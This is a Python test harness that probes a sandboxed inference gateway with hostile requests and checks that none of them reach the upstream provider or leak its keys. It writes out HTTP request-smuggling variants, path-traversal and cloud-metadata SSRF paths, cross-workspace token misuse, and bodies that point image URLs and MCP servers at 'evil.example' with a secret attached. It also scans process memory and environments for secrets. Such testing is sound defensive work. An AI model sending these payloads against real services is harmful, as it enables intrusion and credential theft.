#!/usr/bin/env python3
"""The guest against the inference gateway, over the way that its requests really take: frames, helix-netd, helix-gateway."""
import base64
import hashlib
import http.server
import json
import socket
import threading

import arena as a
import packets as p
from memory import holds
from raw_guest import Conversation

KEY, SECRET = "sk-the-users-own-key-0123456789", "the-users-own-secret-9876543210"
TOKEN, OTHER_TOKEN = "hx-token-of-this-workspace", "hx-token-of-another-workspace"
PROVIDER_PORT, PORT = 18888, 8080
BODY = json.dumps({"model": "m", "max_tokens": 1, "messages": [{"role": "user", "content": "hello"}]})


class Provider(http.server.BaseHTTPRequestHandler):
    """Notes what it was asked, and repeats every header, as a careless service might."""
    protocol_version = "HTTP/1.1"
    asked = []

    def answer(self):
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        Provider.asked.append((self.command, self.path, dict(self.headers)))
        text = json.dumps({"headers": dict(self.headers), "usage": {"input_tokens": 1, "output_tokens": 1}}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(text)))
        self.end_headers()
        self.wfile.write(text)

    do_GET = do_POST = do_PUT = do_DELETE = answer

    def log_message(self, *_):
        pass


class GatewayControl(a.netlab.Control):
    """Helix's end of the conversation with helix-gateway."""

    def __init__(self, made):  # pylint: disable=super-init-not-called
        self._socket, self.acknowledge, self._buffer, self._next_id, self._answers = made, False, b"", 0, {}


def digest(token):
    return base64.urlsafe_b64encode(hashlib.sha256(token.encode()).digest()).rstrip(b"=").decode()


def start_gateway(arena, program):
    """Returns the process and our end; helix-netd hands the guest's connections to 10.0.2.100:8080 straight to it."""
    ours, theirs = socket.socketpair()
    process = arena.lab.host.popen([program, "--control-fd", str(theirs.fileno())], pass_fds=[theirs.fileno()])
    theirs.close()
    control = GatewayControl(ours)
    origin = f"http://127.0.0.1:{PROVIDER_PORT}"
    control.call("providers.set", providers=[{"name": "local", "kind": "anthropic", "base_url": origin, "key": KEY, "models": []}])
    control.call("secrets.set", secrets=[
        {"name": "mine", "origin": origin, "header": "Authorization", "value": SECRET, "granted": ["labworkspace"]},
        {"name": "theirs", "origin": origin, "header": "Authorization", "value": SECRET, "granted": ["otherspace00"]}])
    used = {"requests": 0, "tokens": 0, "micro_usd": 0}
    spare = []
    for workspace, token in (("labworkspace", TOKEN), ("otherspace00", OTHER_TOKEN)):
        netd_end, gateway_end = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        control.call("workspace.open", descriptors=[gateway_end.fileno()], workspace=workspace, token_sha256=digest(token),
                     budget={}, used=used)
        gateway_end.close()
        if workspace == "labworkspace":
            arena.helix.call("service.channel", descriptors=[netd_end.fileno()], port=PORT)
        spare.append(netd_end)
    return process, control, spare


def say(arena, request):
    """All bytes that come back for `request` on a connection of its own."""
    conversation = Conversation(arena.guest, p.SERVICE, PORT)
    data = request if isinstance(request, bytes) else request.encode("latin-1")
    for at in range(0, len(data), 1400):
        conversation.say(data[at:at + 1400])
    heard, answer = b"", conversation.hear(10)
    while isinstance(answer, bytes):
        heard += answer
        answer = conversation.hear(0.3)
    conversation.reset()
    arena.heard += heard
    return heard


def request_of(line, *headers, body=""):
    """A request with the workspace's token."""
    return "\r\n".join([line, "Host: 10.0.2.100:8080", f"x-api-key: {TOKEN}", *headers, "", body])


def post(path="/v1/messages", *headers, body=BODY):
    return request_of(f"POST {path} HTTP/1.1", f"Content-Length: {len(body)}", *headers, body=body)


def smuggled():
    start = "POST /v1/messages HTTP/1.1"
    behind = "\r\n\r\nGET /v1/models HTTP/1.1\r\nHost: h\r\n\r\n"
    for what, headers in (
            ("Content-Length and Transfer-Encoding", ("Content-Length: 4", "Transfer-Encoding: chunked")),
            ("two lengths", ("Content-Length: 4", "Content-Length: 40")), ("a list of lengths", ("Content-Length: 4, 4",)),
            ("a signed length", ("Content-Length: +4",)), ("a hexadecimal length", ("Content-Length: 0x4",)),
            ("a space before the colon", ("Transfer-Encoding : chunked",)), ("a coding in front", ("Transfer-Encoding: gzip, chunked",)),
            ("an unknown coding", ("Transfer-Encoding: xchunked",)), ("a folded line", ("X-A: b", " Transfer-Encoding: chunked")),
            ("a bare line feed", ("X-A: b\nTransfer-Encoding: chunked",)), ("a bare carriage return", ("X-A: b\rX: c",)),
            ("a NUL", ("X-A: b\0c",)), ("two hosts", ("Host: evil.example",)), ("an upgrade", ("Connection: upgrade", "Upgrade: websocket"))):
        yield f"smuggling: {what}", request_of(start, *headers, body="0\r\n\r\n" + behind)
    for what, body in (("chunk size of letters", "zz\r\nx\r\n0\r\n\r\n"), ("chunk size of 2^68", "FFFFFFFFFFFFFFFFF\r\nx"),
                       ("chunks ended by line feeds", "1\nx\n0\n\n")):
        yield f"smuggling: {what}", request_of(start, "Transfer-Encoding: chunked", body=body)


def lines():
    for target in ("http://169.254.169.254/v1/models", f"http://127.0.0.1:{PROVIDER_PORT}/v1/models", "//127.0.0.1/v1/models",
                   "/v1/../admin", "/v1/./models", "/v1/%2e%2e/admin", "/v1/..%2fadmin", "/v1/%252e%252e/admin", "/v1%5cmodels",
                   "/v1/models%00", "/v1/models%0d%0aX:1", "/v1/models#x", "/v1/models/..;/admin", "/admin", "/", "*",
                   "/secret/mine/../../admin", "/secret/mine/%2e%2e/%2e%2e/admin", "/secret/mine//evil.example/",
                   "/secret/theirs/x", "/secret/none/x", "/secret/../v1/models", "/secret", "/provider/none/v1/messages"):
        yield f"path {target}", request_of(f"GET {target} HTTP/1.1")
    yield "CONNECT", request_of("CONNECT 127.0.0.1:22 HTTP/1.1")
    yield "HTTP/2.0 in the first line", request_of("GET /v1/models HTTP/2.0")
    yield "the HTTP/2 preface", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
    yield "TLS", p.client_hello("api.anthropic.com")
    yield "a head of 70 KB", request_of("GET /v1/models HTTP/1.1", "X-A: " + "a" * 70000)
    yield "a body of 64 MiB", request_of("POST /v1/messages HTTP/1.1", "Content-Length: 67108864")
    for what, token in (("another workspace's token", OTHER_TOKEN), ("no token", ""), ("the token and more", TOKEN + "x"),
                        ("a part of the token", TOKEN[:-1])):
        for header in ("x-api-key: ", "Authorization: Bearer ", "x-goog-api-key: "):
            yield f"{what} in {header.split(':')[0]}", post().replace(f"x-api-key: {TOKEN}", header + token)
    yield "another workspace's token for a secret", request_of("GET /secret/mine/x HTTP/1.1").replace(TOKEN, OTHER_TOKEN)


def reaching():
    """An offline guest that has its provider reach somewhere for it."""
    evil = "https://evil.example/?secret"
    turn = lambda *parts: {"model": "m", "max_tokens": 1, "messages": [{"role": "user", "content": list(parts)}]}
    picture = lambda source: turn({"type": "image", "source": source})
    for what, body in (
            ("a picture by URL", picture({"type": "url", "url": evil})),
            ("a picture by URL inside a tool's result", turn({"type": "tool_result", "content": [{"type": "image", "source": {"type": "url", "url": evil}}]})),
            ("a file kept at the provider", picture({"type": "file", "file_id": "file_1"})),
            *((f"the server tool {tool}", {**turn(), "tools": [{"type": tool, "name": "t"}]}) for tool in (
                "web_search_20250305", "web_fetch_20250910", "code_execution_20250825", "mcp_toolset", "a_tool_of_tomorrow")),
            ("an MCP server", {**turn(), "mcp_servers": [{"type": "url", "url": evil, "name": "n"}]}),
            ("a container", {**turn(), "container": "c"})):
        text = json.dumps(body)
        yield what, post(body=text)
        yield f"{what}, keys escaped", post(body=text.replace('"t', '"\\u0074').replace('"u', '"\\u0075'))
        yield f"{what}, keys in capitals", post(body=text.replace('"type"', '"TYPE"').replace('"tools"', '"TOOLS"'))
    yield "a harmless type before the true one", post(body='{"model":"m","max_tokens":1,"messages":[],"tools":[{"type":"custom","type":"web_search_20250305"}]}')
    yield "a harmless type behind the true one", post(body='{"model":"m","max_tokens":1,"messages":[],"tools":[{"type":"web_search_20250305","type":"custom"}]}')
    yield "a beta that switches tools on", post("/v1/messages", "anthropic-beta: a,mcp-client-2025-11-20")
    yield "a beta in a second header", post("/v1/messages", "anthropic-beta: a", "Anthropic-Beta: web-fetch-2025-09-10")
    yield "a compressed body", post("/v1/messages", "Content-Encoding: gzip")
    yield "a body compressed behind another word", post("/v1/messages", "Content-Encoding: identity", "Content-Encoding: br")
    yield "an answer in the background", post(body=BODY.replace("{", '{"background": true, ', 1))


def try_requests(arena):
    for what, request in [*smuggled(), *lines(), *reaching()]:
        Provider.asked.clear()
        heard = say(arena, request)
        status = heard.split(b"\r\n", 1)[0].decode("latin-1")[:60] or "hung up"
        served = bool(Provider.asked) or b" 200 " in heard[:20]
        arena.attempt(what, status, f"the provider was asked {Provider.asked[:1]}" if served else None)


def check_controls(arena):
    heard = say(arena, post())
    arena.control("a proper request reaches the provider with the key", Provider.asked and
                  Provider.asked[-1][2].get("x-api-key") == KEY and b" 200 " in heard[:20])
    arena.control("and without the token", TOKEN not in json.dumps(Provider.asked[-1]))
    account = ("OpenAI-Organization", "OpenAI-Project", "x-goog-user-project", "anthropic-workspace-id", "Cookie")
    say(arena, post("/v1/messages?quotaUser=of-the-guest", *(f"{name}: of-the-guest" for name in account)))
    arena.control("and with nothing of the account that the guest has chosen", "of-the-guest" not in json.dumps(Provider.asked[-1]))
    heard = say(arena, request_of("GET /secret/mine/path HTTP/1.1", "Authorization: Bearer mine-not-yours"))
    arena.control("a granted secret reaches its origin", SECRET in json.dumps(Provider.asked[-1]) and b" 200 " in heard[:20])
    arena.control("in place of the guest's header", "mine-not-yours" not in json.dumps(Provider.asked[-1]))


def search_for_keys(arena, gateway):
    for what, secret in (("the key", KEY), ("the secret", SECRET)):
        arena.attempt(f"{what} in everything that the gateway has answered", f"{len(arena.heard)} bytes",
                      "it is there" if secret.encode() in arena.heard else None)
        for name, process in (("helix-gateway", gateway), ("helix-netd", arena.lab.netd)):
            texts = ""
            for file in ("cmdline", "environ"):
                with open(f"/proc/{process.pid}/{file}", encoding="utf-8", errors="replace") as opened:
                    texts += opened.read()
            arena.attempt(f"{what} in the command line and environment of {name}", leak="it is there" if secret in texts else None)
    try:
        arena.control("the search finds the key where it must be, in helix-gateway", KEY in holds(gateway.pid, [KEY]))
        found = holds(arena.lab.netd.pid, [KEY, SECRET])
        arena.attempt("the key and the secret in helix-netd's memory", leak=f"found {len(found)}" if found else None)
    except PermissionError as problem:
        arena.left_out("Searching helix-netd's memory", problem)


def try_revoked(arena, control):
    Provider.asked.clear()
    control.call("workspace.close", workspace="labworkspace")
    heard = say(arena, post())
    arena.attempt("the token after the workspace has stopped", heard.split(b"\r\n", 1)[0].decode("latin-1") or "hung up",
                  "the provider was asked" if Provider.asked else None)


def attack(arena, program):
    arena.heard = b""
    with arena.lab.host.inside():
        server = http.server.ThreadingHTTPServer(("127.0.0.1", PROVIDER_PORT), Provider)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    arena.start("offline")
    gateway, control, spare = start_gateway(arena, program)
    arena.own_flows = (lambda flow: flow[1] == flow[2] == "127.0.0.1" and flow[3] == PROVIDER_PORT,)
    try:
        check_controls(arena)
        try_requests(arena)
        arena.refuse_tcp("the provider itself", p.GATEWAY, PROVIDER_PORT)
        arena.refuse_tcp("the provider itself", "127.0.0.1", PROVIDER_PORT)
        arena.refuse_tcp("the provider's port at the gateway's address", p.SERVICE, PROVIDER_PORT)
        search_for_keys(arena, gateway)
        check_controls(arena)
        try_revoked(arena, control)
        arena.nothing_arrived()
    finally:
        gateway.kill()
        gateway.wait()
        server.shutdown()
        for end in spare:
            end.close()


if __name__ == "__main__":
    a.run(attack, "--gateway")
